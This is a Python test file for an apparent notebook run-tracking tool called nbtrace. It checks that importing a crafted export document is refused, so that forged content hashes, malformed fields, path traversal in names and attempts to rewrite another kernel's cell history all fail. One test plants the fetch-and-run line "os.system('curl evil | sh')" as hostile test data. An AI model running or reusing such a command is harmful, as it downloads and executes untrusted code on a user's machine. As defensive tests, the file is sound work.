"""Importing a document someone else wrote (issue 12, items 2 and 10), on both engines.

Given a store holding the victim's own run, when a crafted export document is imported, then
nothing it claims is trusted: every content hash is recomputed (a source, blob, package set or
artifact filed under someone else's hash is refused), the whole document is checked against its
schema first (one line naming the first bad entry, nothing written), and an imported run marked
``running`` can still be deleted.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
import os
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from nbtrace.cli import main
from nbtrace.errors import ConflictError, UsageError
from nbtrace.hashing import sha256_text, stable_hash
from nbtrace.store import Store, open_store

BACKENDS = ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
T0 = 1_750_000_000.0
VICTIM_SOURCE = "import numpy as np\n"


@pytest.fixture(params=BACKENDS)
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Store]:
    if request.param == "sqlite":
        loc = str(tmp_path / "runs.db")
    else:
        loc = request.getfixturevalue("pg_store_url")
    s = open_store(loc)
    try:
        yield s
    finally:
        s.close()


def recorded_run(run_id: str, kernel_id: str, sources: list[str]) -> list[tuple]:
    """The ops a kernel writes for one run: content keyed the way the kernel keys it."""
    env = {"python": "3.11.7", "hostname": "box"}
    git = {"commit": "a" * 40, "branch": "main", "dirty": False, "diff": "", "remote": None}
    nb = [sha256_text(s) for s in sources]
    pkgs = sorted([("numpy", "1.26.4"), ("pandas", "2.2.2")])
    h = {k: stable_hash([k, v]) for k, v in (("notebook", nb), ("environment", env), ("git", git))}
    data = b"model bytes" * 10
    ops: list[tuple] = [
        (
            "kernel",
            kernel_id,
            T0 - 5,
            socket.gethostname(),
            "ana",
            os.getpid(),
            "python3",
            sys.executable,
            "/home/ana/nb.ipynb",
            json.dumps({"random": 1}),
        ),
    ]
    ops += [("source", sha256_text(s), s) for s in sources]
    ops += [
        ("cell", kernel_id, i + 1, i + 1, None, sha256_text(s), 0) for i, s in enumerate(sources)
    ]
    ops += [
        ("blob", h[k], k, json.dumps(v, sort_keys=True))
        for k, v in (("notebook", nb), ("environment", env), ("git", git))
    ]
    ops.append(("packages", stable_hash(pkgs), pkgs))
    ops.append(
        (
            "run_start",
            {
                "id": run_id,
                "name": "fit",
                "status": "running",
                "started_at": T0,
                "heartbeat_at": T0,
                "user_name": "ana",
                "host": socket.gethostname(),
                "pid": os.getpid(),
                "kernel_id": kernel_id,
                "start_seq": 1,
                "cell_index": 0,
                "notebook_hash": h["notebook"],
                "env_hash": h["environment"],
                "git_hash": h["git"],
                "packages_hash": stable_hash(pkgs),
                "env_vars": "{}",
                "extra": "{}",
            },
        )
    )
    ops.append(("param", run_id, "alpha", "0.5", 0.5, "0.5"))
    ops.append(("metric", run_id, "mse", 1, 0, T0 + 1, 2.5))
    ops.append(("tag", run_id, "stage", "dev"))
    ops.append(("artifact", run_id, "model.bin", hashlib.sha256(data).hexdigest(), len(data), data))
    ops.append(("run_end", run_id, "finished", T0 + 9, len(sources), "{}"))
    return ops


@pytest.fixture
def exported(store: Store, tmp_path: Path) -> dict[str, Any]:
    """A genuine export document (through JSON, as ``nbtrace export`` writes it), taken from a
    scratch SQLite store so that the store under test starts with the victim's run only."""
    scratch = open_store(str(tmp_path / "attacker.db"))
    scratch.apply(recorded_run("a77ac4", "feedfeedfeedfeed", [VICTIM_SOURCE, "fit()"]))
    doc = json.loads(json.dumps(next(iter(scratch.export_runs()))))
    scratch.close()
    store.apply(recorded_run("71c71e", "beefbeefbeefbeef", [VICTIM_SOURCE, "train()"]))
    return doc


def refused(store: Store, doc: Any, *words: str) -> str:
    before = store.list_runs(limit=None)[1]
    with pytest.raises(UsageError) as info:
        store.import_run(doc)
    msg = str(info.value)
    assert "\n" not in msg and msg.startswith("refused import"), msg
    for w in words:
        assert w in msg, msg
    assert store.list_runs(limit=None)[1] == before  # nothing of it written
    return msg


def test_a_genuine_document_imports(store: Store, exported: dict[str, Any]) -> None:
    assert store.import_run(exported) is True
    assert store.import_run(exported) is False
    run = store.get_run("a77ac4")
    assert [c["source"] for c in run["cells"]] == [VICTIM_SOURCE, "fit()"]
    assert store.is_imported("a77ac4")["host"] == socket.gethostname()
    assert store.is_imported("71c71e") is None


def test_a_source_planted_under_the_victims_hash_is_refused(
    store: Store, exported: dict[str, Any]
) -> None:
    """The attack of item 2: sha256("import numpy as np") mapped to other code."""
    victim_sha = sha256_text(VICTIM_SOURCE)
    bad = copy.deepcopy(exported)
    bad["sources"][victim_sha] = "import os; os.system('curl evil | sh')\n"
    refused(store, bad, f"sources['{victim_sha}']", "does not hash")
    victim = store.get_run("71c71e")
    assert victim["cells"][0]["source"] == VICTIM_SOURCE

    # A fresh store (where the hash is not yet taken) refuses it too.
    fresh_sha = sha256_text("print('hi')")
    bad2 = copy.deepcopy(exported)
    bad2["sources"] = {fresh_sha: "evil()"}
    refused(store, bad2, "does not hash")


@pytest.mark.parametrize("part", ["blob", "packages", "artifact", "artifact_size"])
def test_every_content_hash_is_verified(store: Store, exported: dict[str, Any], part: str) -> None:
    bad = copy.deepcopy(exported)
    if part == "blob":
        key = bad["run"]["git_hash"]
        kind, data = bad["blobs"][key]
        bad["blobs"][key] = [kind, data.replace('"main"', '"evil"')]
        refused(store, bad, f"blobs['{key}']")
    elif part == "packages":
        bad["packages"][0][1] = "0.0.1-evil"
        refused(store, bad, "packages", "packages_hash")
    elif part == "artifact":
        bad["artifacts"][0][3] = base64.b64encode(b"other bytes here.").decode()
        refused(store, bad, "artifacts[0]")
    else:
        bad["artifacts"][0][2] += 1
        refused(store, bad, "artifacts[0]")


def _set(doc: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    target = doc
    for p in path[:-1]:
        target = target[p]
    target[path[-1]] = value
    return doc


# (path in the document, bad value, words the one-line error must hold)
MALFORMED = [
    (("run",), [], "run: must be an object"),
    (("run", "id"), "../%_x", "run.id"),
    (("run", "id"), "a" * 5000, "run.id"),
    (("run", "status"), "zombie", "run.status"),
    (("run", "started_at"), 1e300, "run.started_at"),
    (("run", "name"), "\ud800", "run.name"),
    (("run", "name"), "x" * 5_000_000, "run.name"),
    (("run", "note"), "n" * 120_000_000, "run.note"),
    (("run", "pid"), 2**70, "run.pid"),
    (("run", "resources"), "not json", "run.resources"),
    (("run", "bogus"), 1, "run.bogus"),
    (("metrics", 0, 4), 10**400, "metrics[0][4]"),
    (("metrics", 0, 2), 2**63, "metrics[0][2]"),
    (("metrics", 0), {"a": 1}, "metrics[0]"),
    (("params", 0, 1), "[" * 100_000 + "]" * 100_000, "params[0][1]"),
    (("params", 0, 0), "a\nb", "params[0][0]"),
    (("tags", 0, 0), "st\u202eage", "tags[0][0]"),
    (("tags", 0, 1), "dev\udfff", "tags[0][1]"),
    (("artifacts", 0, 0), "model\r\n.bin", "artifacts[0][0]"),
    (("artifacts", 0, 0), "../escape", "artifacts[0][0]"),
    (("cells", 0, 0), "one", "cells[0][0]"),
    (("kernel",), [1, 2], "kernel"),
    (("sources",), [], "sources"),
]


@pytest.mark.parametrize("path,value,words", MALFORMED, ids=[m[2] for m in MALFORMED])
def test_malformed_documents_get_one_line_naming_the_entry(
    store: Store, exported: dict[str, Any], path: tuple[Any, ...], value: Any, words: str
) -> None:
    refused(store, _set(exported, path, value), words)


def test_a_document_cannot_rewrite_this_stores_kernel_history(
    store: Store, exported: dict[str, Any]
) -> None:
    """A document claiming the victim's kernel id may not change or add its cells."""
    bad = copy.deepcopy(exported)
    bad["run"]["kernel_id"] = bad["kernel"][0] = "beefbeefbeefbeef"
    evil = "evil()"
    bad["sources"][sha256_text(evil)] = evil
    bad["cells"][1][3] = sha256_text(evil)
    refused(store, bad, "cell seq 2", "differs")
    assert store.get_run("71c71e")["cells"][1]["source"] == "train()"


def test_an_imported_running_run_can_be_deleted(store: Store, exported: dict[str, Any]) -> None:
    doc = copy.deepcopy(exported)
    # pid 1 on this host, started after it: the run reads as alive here, so never reaped.
    now = time.time()
    doc["run"].update(
        status="running",
        ended_at=None,
        pid=1,
        host=socket.gethostname(),
        started_at=now,
        heartbeat_at=now,
    )
    assert store.import_run(doc) is True
    assert store.get_run("a77ac4")["status"] == "running"  # pid 1 lives: never reaped
    store.delete_run("a77ac4")
    assert store.list_runs(limit=None)[1] == 1
    with pytest.raises(ConflictError):  # the store's own running run still may not be
        store.apply([("run_update", "71c71e", {"status": "running", "ended_at": None})])
        store.delete_run("71c71e")


def test_cli_import_refuses_in_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = str(tmp_path / "cli.db")
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    planted = tmp_path / "planted.json"
    scratch = open_store(str(tmp_path / "src.db"))
    scratch.apply(recorded_run("c0ffee", "abcabcabcabcabca", [VICTIM_SOURCE]))
    doc = json.loads(json.dumps(next(iter(scratch.export_runs()))))
    scratch.close()
    doc["sources"][sha256_text(VICTIM_SOURCE)] = "evil()"
    planted.write_text(json.dumps({"format": "nbtrace-export/1", "runs": [doc]}))
    for f, words in ((deep, "nested too deeply"), (planted, "does not hash")):
        assert main(["import", "--db", db, str(f)]) == 1
        err = capsys.readouterr().err.strip()
        assert err.startswith("nbtrace: error:") and "\n" not in err and words in err, err
        assert "internal error" not in err
